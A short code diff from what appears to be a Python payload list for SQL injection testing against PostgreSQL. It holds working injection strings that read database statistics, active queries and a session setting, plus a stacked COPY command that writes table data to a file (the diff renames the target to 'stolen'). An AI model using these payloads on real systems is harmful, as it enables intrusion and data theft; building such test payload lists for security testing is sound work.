@@ -63,7 +63,7 @@ def payloads(engine: str) -> list[str]:
             "' UNION SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'batch' --",
             "' UNION SELECT query FROM pg_stat_activity --",
             "' UNION SELECT current_setting('weituo.context') --",
-            "'; COPY (SELECT number FROM batch) TO '/tmp/x' --",
+            "'; COPY (SELECT number FROM batch) TO 'stolen' --",
         ]
     else:
         told += [
